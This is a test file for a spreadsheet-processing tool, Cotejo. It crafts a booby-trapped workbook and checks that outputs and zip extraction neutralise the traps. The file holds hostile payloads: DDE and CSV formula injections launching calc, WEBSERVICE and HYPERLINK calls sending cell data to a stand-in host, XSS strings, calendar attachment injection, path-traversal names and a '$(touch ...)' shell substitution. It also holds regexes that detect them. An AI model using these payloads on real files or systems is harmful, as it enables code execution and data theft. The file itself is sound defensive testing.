import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join, resolve, sep } from 'node:path'
import { strFromU8, unzipSync } from 'fflate'
import { withoutEscape } from '../../support/without-escape.js'
import { relationship } from '../../engine/workbook/make-xlsx.js'
import { makeZip } from '../../engine/workbook/make-zip.js'
import { cotejoAt, temporaryFolder, type Ran } from '../../support/commands.js'
import { PLAN, planBook, planRow, rowsOf } from '../../support/hostile/plain-plan.js'

/** A plan in which everything that can be typed or linked tries to come alive in what Cotejo writes. */

const TRAPS = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://malo.example/?"&A1;"ver")',
  '+1+cmd|x!A1',
  '-2+3+cmd|x!A1',
  '@SUM(1+9)*cmd|x!A1',
  '\t=DDE("cmd";"/C calc")',
  '\r=1+1',
  '=WEBSERVICE("https://malo.example")',
  '=IMPORTXML("https://malo.example";"//a")',
  'file:///C:/Windows/win.ini',
  '\\\\malo.example\\carpeta\\x.xlsx',
  'javascript:alert(1)',
  '<a href="https://malo.example">ver</a><script src=//malo.example></script>',
  '<img src=x onerror=alert(1)>',
  'https://malo.example/ver',
  '";=cmd|x!A1;"',
  'X\r\nATTACH:https://malo.example\r\nEND:VEVENT',
]
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const DEPENDENCIA = 'Secretaría General'

/** The plan with the traps in its texts, and with live formulas, links and names of the kind around them. */
function trapped(): Uint8Array {
  const rows = TRAPS.map((trap, at) =>
    planRow(`1.${at + 4} Pintar ${trap}`, {
      2: trap,
      3: `${at + 1} murales ${trap}`,
      4: `${DEPENDENCIA}\n${trap}`,
    }),
  )
  const formulas = TRAPS.map(
    (trap, at) =>
      `<row r="${at + 60}"><c r="B${at + 60}" t="str"><f>HYPERLINK("https://malo.example","x")&amp;cmd|'/C calc'!A0</f><v>1.${at + 40} ${trap.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</v></c></row>`,
  )
  return planBook({
    sheets: [
      {
        ...PLAN,
        name: '=cmd|x!A1',
        data: `${PLAN.data!}${rowsOf(rows, 9)}${formulas.join('')}`,
        after:
          '<hyperlinks><hyperlink ref="B9" r:id="h1"/><hyperlink ref="C9" r:id="h2"/><hyperlink ref="D9" location="\'[1]X\'!A1"/></hyperlinks>',
      },
    ],
    definedNames:
      '<definedName name="trampa">cmd|\'/C calc\'!A0</definedName><definedName name="otra">\'[1]X\'!$A$1</definedName>',
    links: relationship('e1', 'externalLink', 'externalLinks/externalLink1.xml'),
    extra: [
      {
        name: 'xl/externalLinks/externalLink1.xml',
        data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
      },
      {
        name: 'xl/worksheets/_rels/sheet2.xml.rels',
        data: `<Relationships>${['file:///C:/malo.exe', 'https://malo.example'].map((target, at) => `<Relationship Id="h${at + 1}" Type="${REL}/hyperlink" Target="${target}" TargetMode="External"/>`).join('')}</Relationships>`,
      },
      {
        name: 'xl/comments1.xml',
        data: '<comments><commentList><comment ref="B9"><text><t>https://malo.example</t></text></comment></commentList></comments>',
      },
      {
        name: 'xl/connections.xml',
        data: '<connections><connection id="1" url="https://malo.example"/></connections>',
      },
    ],
  })
}

/** What moves a cursor or turns a line. */
const UNSEEN = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E]/

const folder = temporaryFolder()
afterAll(() => folder.remove())

const run = (...args: readonly string[]): Promise<Ran> =>
  cotejoAt({ today: '2026-02-01', now: () => '2026-02-01T15:00:00Z' }, folder.path, ...args)

/** Every file below a folder. */
function below(path: string): string[] {
  return readdirSync(path, { recursive: true, encoding: 'utf8' })
    .map((name) => join(path, name))
    .filter((name) => statSync(name).isFile())
}

/** The links of an Office file that lead out of it, and what of it would run; the fields of our own page numbers apart. */
function alive(bytes: Uint8Array): string[] {
  return Object.entries(unzipSync(bytes)).flatMap(([name, part]) => {
    if (/externalLink|connections\.xml|vbaProject|\.bin$/i.test(name)) return [name]
    if (!/\.(?:xml|rels)$/.test(name)) return []
    const text = strFromU8(part)
    const found = [
      ...text.matchAll(
        /<f[ >][^<]*(?:cmd|malo|DDE|WEBSERVICE|IMPORTXML|\[1\])[^<]*|<ddeLink|<oleLink|<w:instrText[^>]*>(?!\s*(?:PAGE|NUMPAGES|TOC)\b)[^<]*/g,
      ),
      ...text.matchAll(/<Relationship [^>]*TargetMode="External"[^>]*/g),
      ...text.matchAll(/<definedName [^>]*>[^<]*(?:cmd|malo|\[1\])/g),
    ]
    return found.map(([what]) => `${name}: ${what}`)
  })
}

/** What is live in a file that Cotejo wrote. */
function aliveIn(path: string): string[] {
  const bytes = readFileSync(path)
  const text = bytes.toString('utf8')
  switch (/\.(\w+)$/.exec(path)?.[1]) {
    case 'xlsx':
    case 'docx':
      return alive(new Uint8Array(bytes))
    case 'html':
      return [
        ...text.matchAll(/<script[^>]*malo[^>]*>|<img src=x[^>]*>|<[^>]*\sonerror=[^>]*>/gi),
        ...text.matchAll(
          /<[^>]*\s(?:href|src|action)=["']?(?:https?:\/\/malo|file:|javascript:|\\\\)[^>]*>/gi,
        ),
      ].map(([what]) => what)
    case 'csv':
      return text
        .split(/\r?\n/)
        .flatMap((line) => line.split(/[;,]/))
        .map((cell) => cell.replace(/^"/, ''))
        .filter((cell) => /^\s*[=@]|^\s*[+-](?!\d)/.test(cell) && withoutEscape(cell) === cell)
    case 'ics':
      return [...text.replace(/\r\n[ \t]/g, '').matchAll(/^(?:ATTACH|URL)[:;].*malo.*$/gm)].map(
        ([what]) => what,
      )
    case 'json':
      return typeof JSON.parse(text) === 'object' ? [] : [text.slice(0, 100)]
    default:
      return []
  }
}

/** An annotated return is the sender's own file, with ours added: what it held goes back to whom it came from. */
function isTheirOwn(path: string): boolean {
  return /[/\\](?:devoluciones|devuelto)[/\\].*\.xlsx$/.test(path)
}

function expectNothingAlive(where: string, least: number): void {
  const files = below(where)
  expect(files.length).toBeGreaterThanOrEqual(least)
  expect(
    files.flatMap((path) => aliveIn(path).map((what) => `${path.slice(where.length)} · ${what}`)),
  ).toEqual([])
}

it('validar and consolidar write the traps as text', async () => {
  mkdirSync(folder.in('uno'))
  writeFileSync(folder.in('uno', '=cmd|x!A1 PAAC secretaría general.xlsx'), trapped())
  const { status, out, err } = await run('validar', folder.in('uno'), '--json')
  expect([status, err]).toEqual([1, ''])
  expect(out).toContain('malo.example')
  const table = await run('validar', folder.in('uno'))
  expect(table.out).not.toMatch(UNSEEN)
  const consolidated = await run('consolidar', folder.in('uno'), '--salida', folder.in('salida-uno'))
  expect([consolidated.status, consolidated.err]).toEqual([1, ''])
  const json = readFileSync(folder.in('salida-uno', 'consolidado.json'), 'utf8')
  for (const trap of ["=cmd|'/C calc'!A0", '@SUM(1+9)*cmd|x!A1', 'javascript:alert(1)'])
    expect(json).toContain(trap)
  expectNothingAlive(folder.in('salida-uno'), 6)
}, 120_000)

it('what is received, reported and published is text too', async () => {
  mkdirSync(folder.in('dos', 'entregas'), { recursive: true })
  writeFileSync(folder.in('dos', 'cotejo.json'), JSON.stringify({ vigencia: 2026 }))
  writeFileSync(folder.in('dos', 'entregas', 'PAAC.xlsx'), trapped())
  const there = (...args: readonly string[]): Promise<Ran> =>
    cotejoAt({ today: '2026-05-10', now: () => '2026-05-10T15:00:00Z' }, folder.in('dos'), ...args)
  const orders = [
    ['recibir'],
    ['estado'],
    ['devolver'],
    ['consolidar'],
    ['informe', 'entregas', '--corte', '2026-04-30', '--salida', 'informe'],
    ['publicar', 'entregas', '--salida', 'publico'],
    ['calendario', 'entregas', '--salida', 'calendario'],
  ]
  for (const order of orders) {
    const { status, out, err } = await there(...order)
    if (process.env['SAY']) process.stdout.write(`${order.join(' ')} ${String(status)}\n${out}${err}\n`)
    expect([order, status === 0 || status === 1, err]).toEqual([
      order,
      true,
      expect.not.stringContaining('falló'),
    ])
    expect(out).not.toMatch(UNSEEN)
  }
  const written = below(folder.in('dos')).filter(
    (path) => !/[/\\](?:entregas|archivo)[/\\]/.test(path) && !isTheirOwn(path),
  )
  expect(written.length).toBeGreaterThan(5)
  expect(written.flatMap((path) => aliveIn(path).map((what) => `${path} · ${what}`))).toEqual([])
}, 180_000)

it('names from a zip never lead out of the workspace', async () => {
  mkdirSync(folder.in('tres', 'entregas'), { recursive: true })
  writeFileSync(folder.in('tres', 'cotejo.json'), JSON.stringify({ vigencia: 2026 }))
  const outside = new Set(below(folder.path))
  const names = [
    '../../escapado.xlsx',
    '/tmp/cotejo-escapado.xlsx',
    'C:\\Windows\\escapado.xlsx',
    '\\\\servidor\\carpeta\\escapado.xlsx',
    'CON.xlsx',
    'nul .xlsx',
    'cola. . .xlsx...',
    'con\u0000nulo.xlsx',
    'con\nsalto \u001b[2J.xlsx',
    '\u202Exslx.xlsx',
    `${'largo '.repeat(50)}.xlsx`,
    '$(touch escapado).xlsx',
  ]
  const data = (at: number): Uint8Array =>
    planBook({ definedNames: `<definedName name="n${at}">"x"</definedName>` })
  writeFileSync(
    folder.in('tres', 'entregas', 'todo.zip'),
    makeZip(names.map((name, at) => ({ name, data: data(at), stored: true }))),
  )
  const ran = await cotejoAt(
    { today: '2026-02-01', now: () => '2026-02-01T15:00:00Z' },
    folder.in('tres'),
    'recibir',
  )
  expect([ran.status, ran.err]).toEqual([expect.any(Number), expect.not.stringMatching(/\bat .*\.[jt]s:/)])
  expect(ran.out).not.toMatch(UNSEEN)
  const root = resolve(folder.in('tres'))
  const made = below(folder.path).filter((path) => !outside.has(path))
  expect(made.every((path) => resolve(path).startsWith(root + sep))).toBe(true)
  const ours = made
    .filter((path) => !path.includes(`${sep}entregas${sep}`))
    .map((path) => path.slice(path.lastIndexOf(sep) + 1))
  for (const name of ours) expect(name).not.toMatch(/[\u0000-\u001F<>:"|?*\\]|[. ]$|^(?:con|nul)(?:\.|$)/i)
}, 120_000)
